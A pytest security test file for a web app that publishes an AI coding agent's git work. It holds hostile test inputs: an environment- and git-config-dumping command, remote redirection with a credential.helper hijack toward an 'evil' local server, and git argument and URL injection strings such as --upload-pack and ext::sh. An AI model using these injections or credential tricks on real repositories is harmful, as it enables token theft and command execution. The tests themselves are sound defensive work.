"""What a hostile repository, person or forge could make of publishing."""

from __future__ import annotations

import asyncio
import html
import os
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from django.test import Client
from pytest_django import Settings

from opencode_web.lib.crypto import encrypt
from sessions.actions.checkouts import Plan
from sessions.checkouts.jobs import run_job
from sessions.forges.adapter import ForgeKind
from sessions.models import Checkout, Event, Project, ProjectForge, PullRequest, Session
from sessions.runner import run_session
from teams.models import AuditEntry, Team, User
from tests.sessions.checkouts.conftest import INIT, run
from tests.sessions.factories import make_project, make_session, prompt, script
from tests.sessions.forges.servers import TOKEN, FakeForge, forge
from tests.sessions.git_server import git_server
from tests.sessions.runner.drains import allow_bash
from tests.web_server import answer

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.any_database]
# What the agent leaves behind: all that a command is given.
SPY = "env >seen; cat .git/config >>seen; git config --list >>seen || true"


@pytest.fixture
def project(team: Team, tmp_path: Path) -> Project:
    return make_project(team, tmp_path / "shop")


@pytest.fixture
def browser(client_for: Callable[[User | None], Client], alice: User) -> Client:
    return client_for(alice)


@pytest.fixture
def place(project: Project, tmp_path: Path, settings: Settings) -> Iterator[str]:
    settings.DATA_DIR = tmp_path / "data"
    run(f"rm -rf .git; {INIT}", Path(project.directory))
    run("git init -q --bare acme/till.git", tmp_path)
    run("git config http.receivepack true", tmp_path / "acme/till.git")
    with git_server(tmp_path) as found:
        yield found


@pytest.fixture
def fake(project: Project, place: str) -> Iterator[FakeForge]:
    with forge(ForgeKind.GITEA) as made:
        ProjectForge.objects.create(
            project=project,
            remote_url=f"http://{place}/acme/till.git",
            kind="gitea",
            api_url=made.api,
            token=encrypt(TOKEN),
            updated_at=project.created_at,
        )
        yield made


def worked(alice: User, project: Project, command: str) -> Session:
    session = make_session(alice, project, title="Mend", checkout=Plan())
    allow_bash(session)
    again(alice, session, command)
    return session


def again(alice: User, session: Session, command: str) -> None:
    call = {"tool": "bash", "input": {"command": command, "description": "Run"}}
    prompt(alice, session, script([call], [{"text": "ok"}]))
    asyncio.run(run_session(session.pk))


def post(browser: Client, session: Session, act: str, **fields: str) -> str:
    """Returns: what a person is told: of the refusal, or of what the worker did."""
    answered = browser.post(f"/t/acme/s/{session.pk}/publish/{act}", fields)
    if answered.status_code == 422:
        return html.unescape(answered.content.decode())
    asyncio.run(run_job(session.pk))
    return Checkout.objects.get(pk=session.pk).job_detail


def look(browser: Client, session: Session) -> None:
    Checkout.objects.filter(pk=session.pk).update(looked_at=None)
    browser.get(f"/t/acme/s/{session.pk}/publish")
    asyncio.run(run_job(session.pk))


REQUEST = {"title": "Mend", "body": "", "base": "main"}


def test_the_token_reaches_no_sandbox_page_event_or_audit_entry(
    browser: Client, alice: User, project: Project, fake: FakeForge, tmp_path: Path
) -> None:
    session = worked(alice, project, "echo 1 >new")
    look(browser, session)
    post(browser, session, "commit", message="One", which="all")
    fake.branches.add(Checkout.objects.get(pk=session.pk).branch)
    assert post(browser, session, "request", **REQUEST) == "Opened the pull request #1."
    again(alice, session, SPY)
    seen = (Path(session.folder) / "seen").read_text(errors="replace")
    assert "PATH=" in seen
    pages = [
        browser.get(f"/t/acme/s/{session.pk}{page}").content.decode()
        for page in ("", "/publish", "/worktree")
    ]
    rows = [str(list(model.objects.values())) for model in (Event, AuditEntry, Checkout)]
    rows += [str(list(PullRequest.objects.values()))]
    for text in (seen, *pages, *rows):
        assert TOKEN not in text
    # Nor is it in a file of the server's.
    for folder, _, names in os.walk(tmp_path / "data"):
        for name in names:
            path = Path(folder) / name
            assert not path.is_file() or TOKEN.encode() not in path.read_bytes(), path


def test_a_remote_that_the_agent_sets_gets_nothing(
    browser: Client, alice: User, project: Project, fake: FakeForge, place: str, tmp_path: Path
) -> None:
    seen: list[tuple[str, str | None]] = []
    with git_server(tmp_path, seen=seen) as evil:
        session = worked(
            alice,
            project,
            f"echo 1 >new; git remote add origin http://{evil}/acme/till.git; "
            f"git config url.http://{evil}/.pushInsteadOf http://{place}/; "
            f"git config credential.helper '!touch stolen'",
        )
        look(browser, session)
        post(browser, session, "commit", message="One", which="all")
        assert post(browser, session, "push").startswith("Pushed as")
        assert seen == []
    assert not (Path(session.folder) / "stolen").exists()


def test_the_token_is_not_for_another_address(
    browser: Client, alice: User, project: Project, fake: FakeForge, tmp_path: Path
) -> None:
    seen: list[tuple[str, str | None]] = []
    session = worked(alice, project, "echo 1 >new")
    look(browser, session)
    with git_server(tmp_path, seen=seen) as other:
        post(browser, session, "push", url=f"http://{other}/acme/till.git")
    assert seen
    assert {signed for _, signed in seen} == {None}


def test_neither_git_nor_the_forge_is_followed_to_another_host(
    browser: Client, alice: User, project: Project, fake: FakeForge, place: str, tmp_path: Path
) -> None:
    session = worked(alice, project, "echo 1 >new")
    look(browser, session)
    post(browser, session, "commit", message="One", which="all")
    seen: list[tuple[str, str | None]] = []
    with forge(ForgeKind.GITEA) as other, git_server(tmp_path, seen=seen) as evil:
        away = f"http://{place}/to/{evil}/acme/till.git"
        ProjectForge.objects.update(remote_url=away)
        assert "redirects" in post(browser, session, "push")
        assert seen == []
        ProjectForge.objects.update(remote_url=f"http://{place}/acme/till.git")
        fake.then = [answer(status=307, location=f"{other.api}/repos/acme/till/pulls")]
        assert "redirects to another address" in post(browser, session, "request", **REQUEST)
        assert other.seen == []


HOSTILE = (
    "--upload-pack=touch /tmp/x",
    "-oProxyCommand=touch x",
    "ext::sh -c 'touch x'",
    "ssh://-oProxyCommand=x/a/b",
    "https://host/a\nb",
    "file:///etc",
    "git://host/a/b",
    "https://host/a b",
    "https://",
)


def test_a_hostile_address_is_refused(
    browser: Client, alice: User, project: Project, place: str
) -> None:
    session = worked(alice, project, "echo 1 >new")
    look(browser, session)
    for url in HOSTILE:
        said = post(browser, session, "push", url=url)
        assert 'role="alert"' in said, url
        assert Checkout.objects.get(pk=session.pk).job == "", url


def test_a_hostile_message_is_only_text(
    browser: Client, alice: User, project: Project, place: str
) -> None:
    session = worked(alice, project, "echo 1 >new")
    look(browser, session)
    message = "--amend\x1b[31m\x07\n\n# no comment\n-F /etc/passwd\x00<script>"
    assert "Committed" in post(browser, session, "commit", message=message, which="all")
    said = run("git log -1 --format=%B", Path(session.folder))
    assert said.startswith("--amend[31m\n\n# no comment\n-F /etc/passwd\ufffd<script>\n\nCo-auth")
    shown = browser.get(f"/t/acme/s/{session.pk}/publish").content.decode()
    assert "<script>" not in shown.partition('id="publish"')[2]


def test_what_a_form_claims_to_be_a_file_is_none(
    browser: Client, alice: User, project: Project, place: str
) -> None:
    session = worked(alice, project, "echo 1 >new")
    (Path(session.folder) / "link").symlink_to("/etc/passwd")
    look(browser, session)
    for path in ("/etc/passwd", "../../x", "--all", ".", ":/", "new\n"):
        said = post(browser, session, "commit", message="No", which="some", path=path)
        assert "no changes any more" in said or "at least one file" in said
    assert run("git log --format=%s", Path(session.folder)) == "First\n"
